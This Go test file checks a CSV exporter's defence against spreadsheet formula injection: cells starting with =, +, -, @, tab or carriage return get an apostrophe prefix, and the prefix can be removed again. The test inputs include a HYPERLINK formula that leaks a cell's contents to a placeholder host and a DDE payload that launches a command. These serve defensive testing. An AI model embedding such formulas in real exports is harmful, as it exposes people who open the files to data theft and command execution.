package csvout

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestNeutraliseMakesFormulasText(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x"&A2,"open")`: `'=HYPERLINK("http://x"&A2,"open")`,
		"+1+2":                             "'+1+2",
		"-2+3+cmd|' /C calc'!A0":           "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1,2)":                        "'@SUM(1,2)",
		"\t=1":                             "'\t=1",
		"\r=1":                             "'\r=1",
		"-12.50":                           "-12.50",
		"42":                               "42",
		"Ada Lovelace":                     "Ada Lovelace",
		"":                                 "",
		"a=b":                              "a=b",
	} {
		if got := Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
		if got := Restore(Neutralise(in)); got != in {
			t.Errorf("Restore(Neutralise(%q)) = %q", in, got)
		}
	}
	if got := Restore("'hello"); got != "'hello" {
		t.Errorf("an apostrophe before ordinary text is the user's: got %q", got)
	}
}

func TestWriterChunksAndNeutralisesEveryCell(t *testing.T) {
	var out bytes.Buffer
	sends := 0
	w := NewWriter(func(b []byte) error { sends++; out.Write(b); return nil })
	if err := w.Header("name", "note"); err != nil {
		t.Fatal(err)
	}
	long := strings.Repeat("x", 1000)
	for range 100 {
		if err := w.Row("=1+1", long); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if sends < 3 {
		t.Errorf("100 KB went out in %d sends; want chunks of about %d bytes", sends, ChunkSize)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 101 || w.Rows() != 100 {
		t.Fatalf("got %d lines, %d rows counted", len(rows), w.Rows())
	}
	for _, r := range rows[1:] {
		if r[0] != "'=1+1" {
			t.Fatalf("a formula reached the file: %q", r[0])
		}
	}
}
